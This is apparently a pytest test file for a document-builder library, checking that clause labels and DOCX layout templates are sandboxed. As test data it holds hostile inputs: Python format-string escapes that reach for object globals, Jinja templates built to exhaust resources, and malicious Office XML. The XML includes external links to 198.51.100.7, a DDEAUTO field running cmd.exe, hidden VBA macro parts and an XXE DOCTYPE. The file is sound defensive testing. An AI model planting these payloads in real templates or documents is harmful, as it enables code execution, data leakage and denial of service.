"""A library or a layout template from someone else cannot run code, read the environment,
reach the network or run for ever: the vocabulary is filled with plain names only, layout
templates are checked as XML, every render is bounded."""
from __future__ import annotations

import shutil
import zipfile

import pytest

from conftest import ROOT, TODAY
from mou_builder import api
from mou_builder.base.errors import LibraryError
from mou_builder.library import clauses, templates


def library_with_labels(tmp_path, old: str, new: str):
    lib = tmp_path / "lib"
    shutil.copytree(ROOT / "clauses", lib)
    labels = lib / "labels.yaml"
    text = labels.read_text(encoding="utf-8")
    assert old in text
    labels.write_text(text.replace(old, new, 1), encoding="utf-8")
    clauses.load.cache_clear()
    return clauses.load(lib)


HEADING = 'en: "Article {n} – {title}"'


@pytest.mark.parametrize("field", [
    "{title.__class__.__new__.__globals__}",
    "{title.__class__.__mro__[1]}",
    "{n!r}",
    "{n:>99999999}",
    "{0}",
    "{}",
])
def test_a_label_cannot_reach_beyond_its_values(tmp_path, write_spec, base_text, monkeypatch, field):
    monkeypatch.setenv("CI_TOKEN", "s3cr3t-token")
    library = library_with_labels(tmp_path, HEADING, f'en: "Article {{n}} – {{title}} {field}"')
    with pytest.raises(LibraryError) as info:
        api.build(write_spec(base_text), tmp_path / "out", library=library, today=TODAY)
    message = str(info.value)
    assert "labels.yaml: frame.article_heading" in message and "write {name}" in message
    assert "s3cr3t" not in message
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_a_label_with_an_unknown_field_names_the_label_and_the_known_ones(tmp_path, write_spec, base_text):
    library = library_with_labels(tmp_path, HEADING, 'en: "Article {n} – {titel}"')
    with pytest.raises(LibraryError) as info:
        api.build(write_spec(base_text), tmp_path / "out", library=library, today=TODAY)
    assert "frame.article_heading: '{titel}' is not one of the values this label receives ({n}, {title})" \
        in str(info.value)


def library_with_purpose(tmp_path, body: str):
    lib = tmp_path / "lib"
    shutil.copytree(ROOT / "clauses", lib)
    text = ("id: purpose\nversion: 1\nsource: en\npart: article\norder: 10\n"
            "en:\n  title: Purpose\n  text: |\n" + "".join(f"    {line}\n" for line in body.splitlines()))
    (lib / "purpose.yaml").write_text(text, encoding="utf-8")
    clauses.load.cache_clear()
    return clauses.load(lib)


@pytest.mark.parametrize("body, reason", [
    ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "operations"),
    ("{% macro d(n) %}{% if n %}{{ d(n - 1) }}{{ d(n - 1) }}{% endif %}{% endmacro %}{{ d(35) }}",
     "operations"),
    ("{% macro r(n) %}{{ r(n + 1) }}{% endmacro %}{{ r(1) }}", "nested more than 40 deep"),
    ("{% for i in range(100000) %}{{ doc.name }}{{ doc.name }}{% endfor %}", "operations"),  # each attribute counts
    ("{% macro d(s) %}{{ d(s ~ s) }}{% endmacro %}{{ d('x') }}", "a value of more than"),
    ("{{ 'x' * 10**10 }}", "a value of more than"),
    ("{{ 'x'|center(10**10) }}", "a number argument"),
    ("{{ [('x' * 1500000)|list]|map('join', 'ab')|list }}", "a value of more than"),  # a filter called by name
    ("{{ '{:>999999999}'.format(1) }}", "format width"),
    ("{{ '%999999999d' % 1 }}", "format width"),
    ("{{ 2 ** 10000000 }}", "a power"),
    ("{% for i in range(99999) %}{{ 'x' * 999 }}{% endfor %}", "the output exceeds"),
])
def test_the_work_of_a_clause_is_bounded(tmp_path, write_spec, base_text, body, reason):
    library = library_with_purpose(tmp_path, body)
    with pytest.raises(LibraryError) as info:
        api.build(write_spec(base_text), tmp_path / "out", library=library, today=TODAY)
    assert "purpose.yaml: en.text: the template does too much work" in str(info.value)
    assert reason in str(info.value)


def test_a_deeply_nested_clause_text_is_a_located_library_error(tmp_path):
    lib = tmp_path / "lib"
    shutil.copytree(ROOT / "clauses", lib)
    (lib / "purpose.yaml").write_text(
        "id: purpose\nversion: 1\nsource: en\npart: article\norder: 10\n"
        "en:\n  title: Purpose\n  text: '{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}'\n", encoding="utf-8")
    clauses.load.cache_clear()
    with pytest.raises(LibraryError) as info:
        clauses.load(lib)
    assert "purpose.yaml:8: en.text is nested too deeply" in str(info.value)


DEFAULT = ROOT / "templates" / "default" / "agreement.docx"


def template_pack(tmp_path, changes: dict):
    """A copy of the default template as a pack folder; ``changes``: part name -> new bytes,
    or a function of the old bytes."""
    with zipfile.ZipFile(DEFAULT) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    for name, change in changes.items():
        parts[name] = change(parts[name]) if callable(change) else change
    pack = tmp_path / "pack"
    pack.mkdir(exist_ok=True)
    with zipfile.ZipFile(pack / "agreement.docx", "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return pack / "agreement.docx"


def test_a_layout_template_that_loops_for_ever_is_stopped(tmp_path, write_spec, base_text):
    template_pack(tmp_path, {"word/document.xml": lambda xml: xml.replace(
        b"{{ doc.title }}", b"{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}")})
    spec = write_spec(base_text.replace("kind: agreement", "kind: agreement\ntemplate: pack"))
    with pytest.raises(LibraryError) as info:
        api.build(spec, tmp_path / "out", today=TODAY)
    assert "agreement.docx: the template does too much work: more than 200,000 operations" in str(info.value)


LINK = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '


def add_relationship(xml: str):
    return lambda old: old.replace(b"</Relationships>", xml.encode() + b"</Relationships>")


def in_body(xml: str):
    return lambda old: old.replace(b"</w:body>", xml.encode() + b"</w:body>")


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
HOSTILE = {
    "single quotes": ({"word/_rels/document.xml.rels": add_relationship(
        LINK + "Target='http://198.51.100.7/a.png' TargetMode='External'/>")}, "external file or address"),
    "character reference": ({"word/_rels/document.xml.rels": add_relationship(
        LINK + 'Target="http://198.51.100.7/a.png" TargetMode="&#69;xternal"/>')}, "external file or address"),
    "UTF-16 relationships": ({"word/_rels/document.xml.rels": lambda old: old.decode().replace(
        "encoding='UTF-8'", "encoding='UTF-16'").replace("</Relationships>", LINK + 'Target="http://198.51.100.7/a.png"'
        ' TargetMode="External"/></Relationships>').encode("utf-16")}, "external file or address"),
    "remote attached template": ({"word/_rels/settings.xml.rels":
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://198.51.100.7/t.dotm"/></Relationships>'}, "external file or address"),
    "local attached template": ({"word/_rels/settings.xml.rels":
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="t.dotm"/></Relationships>'}, "an attached template"),
    "INCLUDEPICTURE split over runs": ({"word/document.xml": in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPIC</w:instrText></w:r>'
        '<w:r><w:instrText>TURE "http://198.51.100.7/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')}, "field INCLUDEPICTURE"),
    "INCLUDETEXT in a simple field": ({"word/footer1.xml": lambda old: old.replace(
        b"</w:ftr>", b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\\\a.docx&quot; "/></w:p></w:ftr>')},
        "field INCLUDETEXT"),
    "DDEAUTO": ({"word/document.xml": in_body(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')},
        "field DDEAUTO"),
    "renamed macro part": ({"word/data.xml": b"<x/>", "word/_rels/document.xml.rels": add_relationship(
        '<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="data.xml"/>')}, "holds macros"),
    "macro content type": ({"word/data.bin": b"\0", "[Content_Types].xml": lambda old: old.replace(
        b"</Types>", b'<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')},
        "application/vnd.ms-office.vbaProject"),
    "embedded object": ({"word/document.xml": in_body('<w:p><w:r><w:object/></w:r></w:p>')}, "embedded object"),
    "DOCTYPE": ({"word/document.xml": lambda old: old.replace(
        b"?>", b'?><!DOCTYPE w:document [<!ENTITY x SYSTEM "http://198.51.100.7/">]>', 1)}, "DOCTYPE"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_layout_templates_are_refused(tmp_path, name):
    changes, reason = HOSTILE[name]
    path = template_pack(tmp_path, changes)
    with pytest.raises(LibraryError) as info:
        templates.check(path)
    assert reason in str(info.value)


def test_a_hostile_template_stops_the_build_before_anything_is_written(tmp_path, write_spec, base_text):
    template_pack(tmp_path, HOSTILE["single quotes"][0])
    spec = write_spec(base_text.replace("kind: agreement", "kind: agreement\ntemplate: pack"))
    with pytest.raises(LibraryError) as info:
        api.build(spec, tmp_path / "out", today=TODAY)
    assert "pack/agreement.docx: 'word/_rels/document.xml.rels' links to an external file or address" \
        in str(info.value)
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("template", ["agreement.docx", "parallel.docx"])
def test_the_builtin_templates_pass_the_check(template):
    templates.check(ROOT / "templates" / "default" / template)
